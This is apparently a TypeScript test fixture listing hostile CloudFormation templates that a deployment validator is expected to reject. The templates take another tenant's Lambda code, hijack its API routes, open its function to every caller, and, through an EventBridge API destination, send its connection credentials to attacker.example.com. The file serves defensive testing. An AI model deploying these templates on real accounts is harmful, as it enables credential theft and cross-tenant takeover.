import { resource } from '../wiring/template-builders.ts';
import type { Scene } from './attack.ts';

/** What a release is rejected for, because only its template shows it. */
export interface RejectedAttack {
  readonly name: string;
  readonly code: string;
  readonly resources: Record<string, object>;
  readonly parameters?: Record<string, object>;
}

/** All of them stand in one release of the attacker, which is told of each. */
export function rejectedAttacks(scene: Scene): RejectedAttack[] {
  return [...onCode(scene), ...onParts(scene), ...onTags()];
}

const ROLE = { 'Fn::GetAtt': ['Role', 'Arn'] };

function onCode({ assetBucket, assetKey, releaseBucket }: Scene): RejectedAttack[] {
  const code = (name: string, logicalId: string, S3Bucket: unknown, S3Key: unknown = assetKey): RejectedAttack => ({
    name,
    code: 'template.asset-foreign',
    resources: {
      [logicalId]: resource('AWS::Lambda::Function', {
        ...{ Handler: 'index.handler', Runtime: 'nodejs24.x', Role: ROLE, Code: { S3Bucket, S3Key } },
      }),
    },
  });
  const [start, end] = [assetBucket.slice(0, 9), assetBucket.slice(9)];
  return [
    code('takes the victim’s code by the bucket’s name', 'ByName', assetBucket),
    code('takes it by Fn::Sub', 'BySub', { 'Fn::Sub': 'sluice-assets-${AWS::AccountId}-${AWS::Region}' }),
    code('takes it by Fn::Join', 'ByJoin', { 'Fn::Join': ['', [start, end]] }),
    {
      ...code('takes it by a value of release.json', 'ByParameter', { Ref: 'Bucket' }),
      parameters: { Bucket: { Type: 'String' } },
    },
    {
      ...code('takes it by a parameter of SSM', 'BySsm', { Ref: 'Stored' }),
      parameters: { Stored: { Type: 'AWS::SSM::Parameter::Value<String>', Default: '/attacker/bucket' } },
    },
    code('takes it by a dynamic reference', 'ByReference', '{{resolve:ssm:/attacker/bucket}}'),
    code('takes it by an import', 'ByImport', { 'Fn::ImportValue': 'bucket' }),
    code('takes it by a key that is put together', 'ByKey', { Ref: 'SluiceAssetBucket' }, { 'Fn::Sub': assetKey }),
    {
      ...code('takes it by its key', 'ByOwnBucket', { Ref: 'SluiceAssetBucket' }),
      code: 'template.asset-missing',
    },
    code('takes an artifact', 'ByArtifact', releaseBucket, 'victim/1.0.0.zip'),
  ];
}

function onParts({ apiId, functionName, account }: Scene): RejectedAttack[] {
  const inApi = (name: string, logicalId: string, kind: string, properties: Record<string, unknown>) => ({
    ...{ name, code: 'template.api-foreign' },
    resources: { [logicalId]: resource(`AWS::ApiGatewayV2::${kind}`, { ApiId: apiId, ...properties }) },
  });
  return [
    inApi('answers for the victim’s API', 'ForeignIntegration', 'Integration', {
      ...{ IntegrationType: 'AWS_PROXY', IntegrationUri: { Ref: 'Alias' }, PayloadFormatVersion: '2.0' },
    }),
    inApi('adds a route to the victim’s API', 'ForeignRoute', 'Route', { RouteKey: '$default' }),
    inApi('adds a stage to the victim’s API', 'ForeignStage', 'Stage', { StageName: 'attack', AutoDeploy: true }),
    {
      name: 'answers fields of the victim’s AppSync API',
      code: 'template.api-foreign',
      resources: {
        ForeignResolver: resource('AWS::AppSync::Resolver', {
          ...{ ApiId: 'a1b2c3d4e5f6g7h8i9j0k1l2m3', TypeName: 'Query', FieldName: 'orders', DataSourceName: 'attack' },
        }),
      },
    },
    {
      name: 'sends what the victim’s connection signs in with to an address of its own',
      code: 'template.connection-foreign',
      resources: {
        Hook: resource('AWS::Events::ApiDestination', {
          ConnectionArn: `arn:aws:events:us-east-1:${account}:connection/sluice-victim-open-hook/1`,
          ...{ InvocationEndpoint: 'https://attacker.example.com', HttpMethod: 'POST' },
        }),
      },
    },
    {
      name: 'has CodeDeploy call the victim’s function as its hook',
      code: 'template.hook-foreign',
      resources: {
        Hooked: {
          ...resource('AWS::Lambda::Alias', {
            ...{ Name: 'hooked', FunctionName: { Ref: 'Function' } },
            FunctionVersion: { 'Fn::GetAtt': ['Version', 'Version'] },
          }),
          UpdatePolicy: {
            CodeDeployLambdaAliasUpdate: {
              ...{ ApplicationName: 'sluice', DeploymentGroupName: 'sluice-victim-open-Alias' },
              BeforeAllowTrafficHook: functionName,
            },
          },
        },
      },
    },
    {
      name: 'lets everybody call the victim’s function',
      code: 'template.name-not-granted',
      resources: {
        Opened: resource('AWS::Lambda::Permission', {
          ...{ FunctionName: functionName, Action: 'lambda:InvokeFunction', Principal: '*' },
        }),
      },
    },
    {
      name: 'hides what it makes in a nested stack',
      code: 'template.nested-stack',
      resources: { Nested: resource('AWS::CloudFormation::Stack', { TemplateURL: 'https://example.com/x.json' }) },
    },
    {
      name: 'names a boundary of its own',
      code: 'template.boundary-foreign',
      resources: {
        OwnBoundary: resource('AWS::IAM::Role', {
          AssumeRolePolicyDocument: {},
          PermissionsBoundary: 'arn:aws:iam::aws:policy/AdministratorAccess',
        }),
      },
    },
  ];
}

function onTags(): RejectedAttack[] {
  const tagged = (name: string, logicalId: string, Tags: unknown): RejectedAttack => ({
    ...{ name, code: 'template.tag-reserved' },
    resources: { [logicalId]: resource('AWS::SQS::Queue', { Tags }) },
  });
  const victims = { Key: 'sluice:entry', Value: 'victim' };
  return [
    tagged('says that a queue is the victim’s', 'Tagged', [victims]),
    tagged('says so in a condition', 'TaggedIf', [{ 'Fn::If': ['Always', victims, { Ref: 'AWS::NoValue' }] }]),
    tagged('says so by Fn::Sub', 'TaggedSub', [{ Key: { 'Fn::Sub': 'sluice:entry' }, Value: 'victim' }]),
  ];
}
